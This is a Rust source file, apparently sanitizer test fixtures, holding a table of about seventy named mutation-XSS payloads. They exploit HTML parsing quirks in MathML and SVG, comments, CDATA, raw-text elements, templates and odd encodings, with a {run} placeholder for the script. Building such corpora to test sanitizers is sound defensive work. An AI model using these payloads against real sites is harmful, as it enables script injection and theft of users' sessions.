//! Markup that changes its meaning between two readings: where it is moved, ended early, or read by other rules within
//! formulas, drawings, and elements that hold raw text.

pub(super) const ALL: &[(&str, &str)] = &[
    (
        "formula-style-in-a-table",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={run}&gt;\">",
    ),
    (
        "formula-mark-of-evil",
        "<math><mi><table><malignmark><style><a title=\"</style><img src=x onerror={run}>\">",
    ),
    (
        "formula-annotation",
        "<math><annotation-xml encoding=text/html><script>{run}</script></annotation-xml></math>",
    ),
    (
        "formula-annotation-that-is-a-drawing",
        "<math><annotation-xml encoding=image/svg+xml><svg><style><p title=\"</style><img src=x onerror={run}>\">",
    ),
    (
        "formula-in-a-form-in-a-form",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    ),
    (
        "formula-that-a-paragraph-ends",
        "<math><style><p></math><img src=x onerror={run}></style>",
    ),
    (
        "drawing-style-with-markup",
        "<svg><style><img title=\"</style><img src=x onerror={run}>\"></style></svg>",
    ),
    (
        "drawing-that-a-paragraph-ends",
        "<svg></p><style><a id=\"</style><img src=x onerror={run}>\">",
    ),
    (
        "drawing-title-with-markup",
        "<svg><title><style><a title=\"</title><img src=x onerror={run}>\"></style></title></svg>",
    ),
    (
        "drawing-description",
        "<svg><desc><noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript></desc></svg>",
    ),
    (
        "foreign-object",
        "<svg><foreignObject><img src=x onerror={run}><p>words</p></foreignObject></svg>",
    ),
    (
        "foreign-object-in-a-table",
        "<table><svg><foreignObject><tr><td><script>{run}</script></table>",
    ),
    (
        "foreign-object-that-ends-twice",
        "<svg><foreignObject><math></foreignObject></svg><style><img src=x onerror={run}></style>",
    ),
    (
        "drawing-with-character-data",
        "<svg><![CDATA[><img src=x onerror={run}>]]></svg>",
    ),
    (
        "formula-with-character-data",
        "<math><![CDATA[</math><img src=x onerror={run}>]]></math>",
    ),
    (
        "character-data-in-notes",
        "<![CDATA[<img src=x onerror={run}>]]>words",
    ),
    (
        "character-data-in-a-foreign-object",
        "<svg><foreignObject><![CDATA[><script>{run}</script>]]></foreignObject></svg>",
    ),
    (
        "comment-that-ends-oddly",
        "<!--> <img src=x onerror={run}> -->words",
    ),
    (
        "comment-that-ends-with-a-dash",
        "<!---> <img src=x onerror={run}> -->words",
    ),
    (
        "comment-that-ends-with-a-bang",
        "<!-- --!> <img src=x onerror={run}> -->words",
    ),
    (
        "comment-in-a-comment",
        "<!-- <!-- --> <img src=x onerror={run}> --> -->words",
    ),
    (
        "comment-that-never-ends",
        "words<!-- <p title=\"--><img src=x onerror={run}>\">",
    ),
    (
        "comment-for-one-browser",
        "<!--[if true]><script>{run}</script><![endif]-->words",
    ),
    (
        "comment-in-a-script",
        "<script><!-- <script> </script>{run}</script> --></script>words",
    ),
    (
        "comment-in-a-style",
        "<style><!-- </style><img src=x onerror={run}> --></style>",
    ),
    (
        "bogus-comment",
        "<!a <img src=x onerror={run}>><?b <img src=x onerror={run}>></?c <img>",
    ),
    (
        "doctype-in-notes",
        "<!DOCTYPE html SYSTEM \"<img src=x onerror={run}>\">words",
    ),
    (
        "doctype-with-an-entity",
        "<!DOCTYPE a [<!ENTITY e \"<img src=x onerror={run}>\">]>&e;words",
    ),
    (
        "instruction-of-a-sheet",
        "<?xml-stylesheet href=\"javascript:{run}\"?>words",
    ),
    (
        "noscript-attribute",
        "<noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript>",
    ),
    (
        "noscript-with-a-comment",
        "<noscript><!-- </noscript><img src=x onerror={run}> --></noscript>",
    ),
    (
        "noembed-attribute",
        "<noembed><p title=\"</noembed><img src=x onerror={run}>\"></noembed>",
    ),
    (
        "noframes-attribute",
        "<noframes><p title=\"</noframes><img src=x onerror={run}>\"></noframes>",
    ),
    (
        "frame-attribute",
        "<iframe><p title=\"</iframe><img src=x onerror={run}>\"></iframe>",
    ),
    (
        "text-field-attribute",
        "<textarea><p title=\"</textarea><img src=x onerror={run}>\"></textarea>",
    ),
    (
        "title-attribute",
        "<title><p title=\"</title><img src=x onerror={run}>\"></title>",
    ),
    (
        "style-attribute",
        "<style><p title=\"</style><img src=x onerror={run}>\"></style>",
    ),
    (
        "sample-of-old",
        "<xmp><p title=\"</xmp><img src=x onerror={run}>\"></xmp>",
    ),
    (
        "listing-of-old",
        "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    ),
    (
        "plain-text-of-old",
        "<plaintext></plaintext><img src=x onerror={run}>",
    ),
    (
        "template-with-a-script",
        "<template><script>{run}</script></template>words",
    ),
    (
        "template-in-a-template",
        "<template><template></template><img src=x onerror={run}></template>words",
    ),
    (
        "template-that-a-table-ends",
        "<table><template><tr></table><td><img src=x onerror={run}></template></table>",
    ),
    (
        "select-with-a-style",
        "<select><style></select><img src=x onerror={run}></style></select>",
    ),
    (
        "select-with-a-template",
        "<select><template><img src=x onerror={run}></template><option>words</select>",
    ),
    (
        "table-that-moves-its-words",
        "<table><b><img src=x onerror={run}><tr><td>words</b></table>",
    ),
    (
        "table-in-a-link",
        "<a href=https://a.example><table><a href=\"javascript:{run}\">words</a></table>",
    ),
    (
        "form-that-nests",
        "<form><div></form><form id=x><input form=x onfocus={run} autofocus>",
    ),
    (
        "bold-that-crosses",
        "<b><p><i></b><img src=x onerror={run}></i></p>",
    ),
    (
        "links-that-cross",
        "<a href=https://a.example><div><a href=\"javascript:{run}\">words</a></div>",
    ),
    (
        "name-with-a-quote",
        "<p\"onclick={run}>words</p\"onclick={run}>",
    ),
    ("name-with-a-lesser", "<p<img src=x onerror={run}>words"),
    (
        "attribute-with-a-lesser",
        "<p title=<img src=x onerror={run}>words",
    ),
    (
        "attribute-in-backticks",
        "<p title=`><img src=x onerror={run}>`>words",
    ),
    (
        "attribute-without-an-end",
        "words <p title=\"<img src=x onerror={run}>",
    ),
    (
        "attribute-twice",
        "<a href=https://a.example href=\"javascript:{run}\">words</a>",
    ),
    ("attribute-of-a-null", "<img \0src=x \0onerror={run}>"),
    ("tag-with-a-null", "<scr\0ipt>{run}</scr\0ipt>"),
    ("tag-with-a-form-feed", "<img\u{c}src=x\u{c}onerror={run}>"),
    (
        "tag-with-a-vertical-tab",
        "<img\u{b}src=x\u{b}onerror={run}>",
    ),
    (
        "tag-in-wide-letters",
        "\u{ff1c}script\u{ff1e}{run}\u{ff1c}/script\u{ff1e}",
    ),
    (
        "tag-in-old-encodings",
        "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    ),
    (
        "tag-in-references",
        "&lt;script&gt;{run}&lt;/script&gt;&#60;img src=x onerror={run}&#62;",
    ),
    (
        "tag-in-references-twice",
        "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    ),
    (
        "tag-in-references-without-ends",
        "&ltscript&gt{run}&lt/script&gt",
    ),
    ("tag-that-a-break-ends", "<img src=x onerror={run}\n<br>"),
    (
        "code-with-markup",
        "<pre><code>&lt;/code>&lt;img src=x onerror={run}&gt;</code></pre>",
    ),
    (
        "ruby-that-nests",
        "<ruby><rtc><rt><svg><rp></svg><img src=x onerror={run}></ruby>",
    ),
    (
        "frameset-after-words",
        "words<frameset onload={run}><frame src=x></frameset>",
    ),
    (
        "body-after-the-end",
        "words</body></html><script>{run}</script><body onload={run}>",
    ),
];
